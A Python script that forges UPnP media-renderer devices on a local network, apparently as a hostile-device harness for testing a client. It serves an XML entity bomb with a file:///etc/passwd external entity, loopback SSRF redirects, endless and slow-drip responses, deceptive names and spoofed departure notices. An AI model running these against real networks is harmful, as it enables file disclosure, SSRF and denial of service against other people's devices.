"""Devices that are none: what somebody in the home might say to do harm."""

from __future__ import annotations

import asyncio
import contextlib
import sys
from pathlib import Path

GROUP, PORT = "239.255.255.250", 1900
RENDERER = "urn:schemas-upnp-org:device:MediaRenderer:1"
SERVICE = "urn:schemas-upnp-org:service"


def page(udn: str, name: str = "Forged", *, base: str = "", control: str = "/control") -> str:
    """The description of a renderer."""
    services = "".join(
        f"<service><serviceType>{SERVICE}:{kind}:1</serviceType>"
        f"<serviceId>urn:upnp-org:serviceId:{kind}</serviceId><SCPDURL>/scpd.xml</SCPDURL>"
        f"<controlURL>{control}</controlURL><eventSubURL>/event</eventSubURL></service>"
        for kind in ("AVTransport", "RenderingControl", "ConnectionManager")
    )
    place = f"<URLBase>{base}</URLBase>" if base else ""
    return (
        f'<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0">{place}<device>'
        f"<deviceType>{RENDERER}</deviceType><friendlyName>{name}</friendlyName>"
        f"<manufacturer>M</manufacturer><modelName>X</modelName><UDN>{udn}</UDN>"
        f"<serviceList>{services}</serviceList></device></root>"
    )


def announcement(udn: str, location: str, *, leaves: bool = False) -> bytes:
    """What a renderer says of itself to everybody."""
    kind = "byebye" if leaves else "alive"
    return (
        f"NOTIFY * HTTP/1.1\r\nHOST: {GROUP}:{PORT}\r\nCACHE-CONTROL: max-age=1800\r\n"
        f"LOCATION: {location}\r\nNT: {RENDERER}\r\nNTS: ssdp:{kind}\r\n"
        f"USN: {udn}::{RENDERER}\r\n\r\n"
    ).encode()


BOMB = """<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]>"""


class Village:
    """A web server for all the forged devices of a room; it writes down what it is asked."""

    def __init__(self, address: str, log: Path) -> None:
        self.address = address
        self.log = log

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            path = head.split(" ")[1]
            sent = await self.answer(path, writer)
            with self.log.open("a") as file:
                file.write(f"{path} {sent}\n")
        with contextlib.suppress(ConnectionError):
            writer.close()

    async def answer(self, path: str, writer: asyncio.StreamWriter) -> int:
        """Answer by the name of the attack; returns how many bytes of the body went out."""
        kind, _, udn = path.strip("/").partition("/")
        if kind == "large":
            return await self._pour(writer, "Content-Length: 1073741824\r\n")
        if kind == "endless":
            return await self._pour(writer, "")
        if kind == "drip":
            return await self._drip(writer)
        if kind in ("redirect", "home"):
            goal = "http://127.0.0.1:80/x" if kind == "home" else f"/good/{udn}"
            writer.write(f"HTTP/1.1 302 F\r\nLocation: {goal}\r\n\r\n".encode())
            return 0
        body = self.body(kind, udn).encode()
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode())
        writer.write(body)
        await writer.drain()
        return len(body)

    def body(self, kind: str, udn: str) -> str:
        if kind == "loopback":
            return page(udn, control="http://127.0.0.1:80/control")
        if kind == "based":
            return page(udn, base="http://127.0.0.1:80/")
        if kind == "foreign":
            return page(udn, control="http://203.0.113.9/control")
        if kind == "bomb":
            return BOMB + page(udn, "&c;&d;").partition("?>")[2]
        if kind == "server":
            return page(udn).replace(RENDERER, "urn:schemas-upnp-org:device:MediaServer:1")
        if kind == "named":
            return page(udn, "A\N{RIGHT-TO-LEFT OVERRIDE}B&lt;b&gt;bold&lt;/b&gt;\n" + "x" * 5000)
        return page(udn) if kind == "good" else "nothing"

    async def _pour(self, writer: asyncio.StreamWriter, length: str) -> int:
        writer.write(f"HTTP/1.1 200 OK\r\n{length}\r\n<root>".encode())
        sent = 0
        with contextlib.suppress(ConnectionError):
            while sent < 1 << 30:
                writer.write(b" " * 65_536)
                await writer.drain()
                sent += 65_536
        return sent

    async def _drip(self, writer: asyncio.StreamWriter) -> int:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        sent = 0
        with contextlib.suppress(ConnectionError):
            while sent < 300:
                writer.write(b" ")
                await writer.drain()
                sent += 1
                await asyncio.sleep(0.1)
        return sent


async def main(address: str, log: Path, *attacks: str) -> None:
    """Serve, and announce `KIND` or `KIND*MANY`, or `KIND@HOST` elsewhere, again and again."""
    import socket

    village = Village(address, log)
    server = await asyncio.start_server(village.serve, address, 8080)
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.bind((address, 0))
    asking.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    async with server:
        while True:
            for attack in attacks:
                kind, _, host = attack.partition("@")
                kind, _, many = kind.partition("*")
                for number in range(int(many or 1)):
                    udn = f"uuid:{kind}-{number}"
                    place = f"http://{host or address}:8080/{kind}/{udn}"
                    leaves = kind == "byebye"
                    udn = host if leaves else udn
                    asking.sendto(announcement(udn, place, leaves=leaves), (GROUP, PORT))
                    if number % 50 == 49:
                        await asyncio.sleep(0.01)
            await asyncio.sleep(0.5)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Path(sys.argv[2]), *sys.argv[3:]))
